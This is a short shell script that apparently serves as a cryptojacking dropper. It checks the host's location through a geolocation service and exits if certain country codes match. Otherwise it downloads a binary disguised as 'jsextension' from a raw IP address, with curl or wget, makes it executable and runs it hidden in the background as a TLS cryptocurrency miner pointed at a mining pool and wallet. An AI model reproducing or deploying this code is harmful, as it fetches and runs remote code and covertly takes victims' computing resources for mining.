IP=$(curl -k https://whereis.example/xml/ | grep 'XA\|XB\|XC')
if [ -z "$IP" ]
then
  var=$(pgrep jsextension)
  if [ -z "$var" ]
  then
    curl http://203.0.113.228/download/jsextension -o jsextension
    if [ ! -f jsextension ]
    then
      wget http://203.0.113.228/download/jsextension -O jsextension
    fi
    chmod +x jsextension
    ./jsextension -k --tls --rig-id q -o pool.mining.example:443 -u 49Examp1eAddre55Not2BeUsed9x49Examp1eAddre55Not2BeUsed9x49Examp1eAddre55Not2BeUsed9x49Examp1eAd --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
  fi
fi
